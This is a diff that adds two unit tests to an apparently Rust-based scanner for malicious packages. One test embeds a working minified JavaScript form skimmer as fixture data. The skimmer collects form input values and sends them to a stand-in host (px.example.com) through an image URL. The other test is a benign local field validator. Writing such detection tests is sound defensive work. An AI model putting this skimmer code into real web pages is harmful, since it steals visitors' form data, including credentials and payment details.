@@ -553,4 +553,38 @@ mod tests {
             vec![("index.js".to_string(), 5)]
         );
     }
+
+    /// A minified skimmer: each input found by a computed selector keeps its value on
+    /// `change`, and the values leave by an image URL.
+    #[test]
+    fn positive_change_listener_on_inputs_to_an_image() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/v.min.js",
+                "!function(){var r={};function i(){[\"input\",\"select\"].map(function(e){return[].slice.call(document.querySelectorAll(e))}).reduce(function(e,t){return e.concat(t)},[]).forEach(function(e){var t=e.name||e.id;e.addEventListener(\"change\",function(){r[t]=e.value})});document.addEventListener(\"submit\",function(){var o=new Image;o.src=\"https://px.example.com/p.gif?d=\"+encodeURIComponent(JSON.stringify(r))},!0)}setTimeout(i,3e3)}();\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/browser-data-theft"),
+            vec![("dist/v.min.js".to_string(), 1)]
+        );
+    }
+
+    /// A validator marks each field on `change` and never sends anything.
+    #[test]
+    fn negative_change_listener_validates_locally() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "v.js",
+                "document.querySelectorAll('input').forEach(function (el) {\n  el.addEventListener('change', function () { el.classList.toggle('bad', !/^\\d+$/.test(el.value)); });\n});\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/browser-data-theft").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
 }
